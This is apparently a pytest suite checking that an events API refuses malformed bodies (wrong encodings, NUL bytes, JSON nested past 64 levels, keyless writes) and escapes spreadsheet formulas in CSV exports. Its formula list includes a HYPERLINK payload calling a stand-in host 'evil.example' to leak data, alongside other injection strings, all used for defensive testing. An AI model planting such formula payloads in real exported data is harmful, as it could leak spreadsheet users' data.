"""Bodies a careless or hostile client sends: each a documented problem, never a 500,
the same on both backends.

The API reads JSON in UTF-8 only; JSON nested deeper than 64 levels is refused before
it is parsed; a write without a key is refused before its body is read.
"""

from __future__ import annotations

import csv
import json

import pytest
from fastapi.testclient import TestClient

from tests.factories import SOURCE_ID, source_body

PROBLEM = "application/problem+json"


def _post(client: TestClient, body: bytes, headers: dict[str, str], content_type: str | None):  # type: ignore[no-untyped-def]
    sent = dict(headers)
    if content_type is not None:
        sent["Content-Type"] = content_type
    return client.post("/v1/events", content=body, headers=sent)


@pytest.mark.parametrize(
    "content_type",
    [
        None,
        "application/json; charset=latin-1",
        "application/json; charset=utf-16",
        "application/merge-patch+json",
        "text/plain",
        "application/x-www-form-urlencoded",
    ],
)
def test_a_body_that_is_not_json_in_utf8_is_a_415_naming_its_content_type(
    client: TestClient, writer: dict[str, str], content_type: str
) -> None:
    response = _post(client, json.dumps(source_body()).encode(), writer, content_type)

    assert response.status_code == 415
    assert response.headers["content-type"] == PROBLEM
    assert response.json()["type"] == "/problems/unsupported-media-type"
    assert (content_type or "without a Content-Type") in response.json()["detail"]
    assert client.get("/v1/events").json()["events"] == []


@pytest.mark.parametrize(
    "content_type",
    [
        "application/json",
        "application/json; charset=utf-8",
        'Application/JSON; Charset="UTF-8"',
    ],
)
def test_json_in_utf8_is_recorded_with_a_utf8_charset_or_none(
    client: TestClient, writer: dict[str, str], content_type: str
) -> None:
    response = _post(client, json.dumps(source_body()).encode(), writer, content_type)

    assert response.status_code == 201


@pytest.mark.parametrize(
    "encoding", ["utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-32-le", "utf-32-be"]
)
def test_a_body_in_utf16_or_utf32_is_a_415_even_labelled_json(
    client: TestClient, writer: dict[str, str], encoding: str
) -> None:
    body = json.dumps(source_body(title="plain words")).encode(encoding)

    response = _post(client, body, writer, "application/json")

    assert response.status_code == 415
    assert encoding[:6].upper() in response.json()["detail"]
    assert client.get("/v1/events").json()["events"] == []


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "utf-32-be"])
def test_a_nul_sent_in_utf16_or_utf32_is_refused_and_nothing_is_stored(
    client: TestClient, writer: dict[str, str], encoding: str
) -> None:
    body = json.dumps(source_body(title="North Korea\u0000sends workers")).encode(encoding)

    response = _post(client, body, writer, "application/json")

    assert response.status_code == 415
    assert client.get("/v1/events").json()["events"] == []


@pytest.mark.parametrize("raw", [b"\xff\xfe\x00garbage", b"\xfe\x80garbage\xff", b'{"a": "\xc3"}'])
def test_bytes_that_are_not_utf8_are_a_415(
    client: TestClient, writer: dict[str, str], raw: bytes
) -> None:
    response = _post(client, raw, writer, "application/json")

    assert response.status_code == 415
    assert response.json()["type"] == "/problems/unsupported-media-type"


def test_a_raw_nul_byte_in_a_utf8_body_is_a_problem_not_a_500(
    client: TestClient, writer: dict[str, str]
) -> None:
    body = json.dumps(source_body(title="North Korea@sends")).encode().replace(b"@", b"\x00")

    response = _post(client, body, writer, "application/json")

    assert response.status_code in (400, 422)
    assert response.headers["content-type"] == PROBLEM
    assert client.get("/v1/events").json()["events"] == []


def test_a_nul_in_a_large_body_is_found_off_the_event_loop_and_named(
    client: TestClient, writer: dict[str, str]
) -> None:
    batch = {"events": [source_body(f"s{i}", title="x" * 400) for i in range(300)]}
    batch["events"][299]["data"]["title"] = "late\u0000"
    body = json.dumps(batch).encode()
    assert len(body) > 64 * 1024

    response = _post(client, body, writer, "application/json")

    assert response.status_code == 422
    assert response.json()["errors"][0]["field"] == "events.299.data.title"


@pytest.mark.parametrize("depth", [65, 5_000, 100_000])
def test_json_nested_deeper_than_64_is_a_422_never_a_500(
    client: TestClient, writer: dict[str, str], depth: int
) -> None:
    body = b'{"a":' * depth + b"1" + b"}" * depth

    response = _post(client, body, writer, "application/json")

    assert response.status_code == 422
    assert response.json()["type"] == "/problems/nested-too-deep"
    assert "64" in response.json()["detail"]


def test_unclosed_nesting_without_a_key_is_a_401_and_with_one_a_422(
    client: TestClient, writer: dict[str, str]
) -> None:
    body = b'{"a":' * 10_000

    keyless = _post(client, body, {}, "application/json")
    keyed = _post(client, body, writer, "application/json")

    assert keyless.status_code == 401
    assert keyed.status_code == 422


def test_nesting_at_the_limit_is_read_as_usual(client: TestClient, writer: dict[str, str]) -> None:
    body = source_body()
    body["data"]["notes"] = json.loads("[" * 60 + "]" * 60)

    response = client.post("/v1/events", json=body, headers=writer)

    # An ordinary validation problem: the depth itself was not refused.
    assert response.status_code == 422
    assert response.json()["type"] == "/problems/validation-error"


def test_brackets_inside_strings_do_not_count_as_nesting(
    client: TestClient, writer: dict[str, str]
) -> None:
    response = client.post(
        "/v1/events", json=source_body(title="[{" * 200 + '\\"' + "[" * 100), headers=writer
    )

    assert response.status_code == 201


def test_a_keyless_write_is_a_401_before_its_body_is_judged(client: TestClient) -> None:
    response = client.post(
        "/v1/events",
        content="not json at all".encode("utf-16"),
        headers={"Content-Type": "text/plain"},
    )

    assert response.status_code == 401
    assert response.headers["www-authenticate"] == 'Bearer realm="labor-ledger"'
    assert response.json()["type"] == "/problems/unauthorized"


def test_a_write_to_an_address_that_takes_none_is_still_a_405_without_a_key(
    client: TestClient,
) -> None:
    response = client.post("/v1/deployments", json={})

    assert response.status_code == 405


@pytest.mark.parametrize("slug", ["unsupported-media-type", "nested-too-deep"])
def test_the_new_problem_types_have_pages(client: TestClient, slug: str) -> None:
    page = client.get(f"/problems/{slug}", headers={"Accept": "application/json"})

    assert page.status_code == 200
    assert page.json()["type"] == f"/problems/{slug}"


FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak","click me")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
]


def _statement(quote: str, role: str) -> dict[str, object]:
    return {
        "type": "statement.issued",
        "provenance": {
            "source_id": SOURCE_ID,
            "locator": f"Officials said: {quote}",
            "reporting_basis": "official_statement",
        },
        "data": {
            "speaker": {"role": role},
            "quote": quote,
            "language": "en",
            "issued_on": "2023-04-25",
        },
    }


def test_csv_cells_a_spreadsheet_would_run_are_written_as_text(
    client: TestClient, writer: dict[str, str]
) -> None:
    client.post("/v1/events", json=source_body(), headers=writer)
    for formula in FORMULAS:
        response = client.post("/v1/events", json=_statement(formula, formula), headers=writer)
        assert response.status_code == 201, response.text

    table = client.get("/v1/statements?format=csv")

    assert table.status_code == 200
    # A bare CR inside a cell is written unquoted (lineterminator "\n"): read as lines.
    cells = [
        cell for row in csv.reader(table.text.replace("\r", "<CR>").splitlines()) for cell in row
    ]
    assert not [
        cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t") or cell.startswith("<CR>")
    ]
    for formula in FORMULAS:
        assert "'" + formula.replace("\r", "<CR>") in cells
    # The JSON keeps the words as they were reported.
    quotes = {s["quote"] for s in client.get("/v1/statements").json()["statements"]}
    assert set(FORMULAS) <= quotes


def test_numbers_in_csv_stay_numbers_and_plain_text_is_untouched(
    client: TestClient, writer: dict[str, str]
) -> None:
    client.post("/v1/events", json=source_body(), headers=writer)
    client.post(
        "/v1/events",
        json=_statement("Cooperation - in labour - will grow.", "officials"),
        headers=writer,
    )

    text = client.get("/v1/statements?format=csv").text

    assert "Cooperation - in labour - will grow." in text
    assert "'Cooperation" not in text
